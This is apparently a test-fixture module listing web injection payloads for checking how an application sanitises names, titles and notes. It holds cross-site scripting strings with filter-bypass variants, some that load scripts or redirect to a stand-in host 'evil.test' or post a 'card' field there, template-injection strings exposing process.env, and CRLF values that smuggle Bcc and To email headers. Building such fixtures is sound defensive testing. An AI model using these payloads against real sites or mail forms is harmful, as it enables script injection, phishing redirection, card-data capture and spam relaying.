/** What an attacker types where a name, a title, a note or a number belongs. */

const BODIES = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.test/a.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='//evil.test/pixel.gif' width=1>",
  "<img/src=`x`onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href=javascript:alert(1)>refund</a>",
  "<a href=https://evil.test>https://shop.test</a>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=//evil.test/a.css>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<base href=//evil.test/>",
  "<form action=//evil.test><input name=card></form>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<!-- comment",
  "--> <b>bold</b>",
  "<![CDATA[<b>]]>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<div style=position:fixed;inset:0;background:red>",
  "<button formaction=javascript:alert(1)>",
  "<table background=javascript:alert(1)>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= process.env %> ${process.env}",
]

/** What first leaves an attribute, or the element that the text stands in. */
const EXITS = ["", `">`, `'>`, `</p></td></tr></table></title></style>`]

const LINE_ENDS = [
  ...["\r\n", "\n", "\r", "\r\n\r\n"],
  ...["\u2028", "\u2029", "\u0085", "\v\f", "%0d%0a"],
]

const HEADERS = [
  "Bcc: all@evil.test",
  "To: all@evil.test",
  "Subject: You have won",
  "Content-Type: text/html",
  "Reply-To: <all@evil.test>",
  ".",
]

export const XSS_VECTORS = EXITS.flatMap((exit) =>
  BODIES.map((body) => `${exit}${body}`)
)

export const CRLF_VECTORS = LINE_ENDS.flatMap((end) =>
  HEADERS.map((header) => `Asha${end}${header}`)
)

export const VECTORS = [...XSS_VECTORS, ...CRLF_VECTORS]
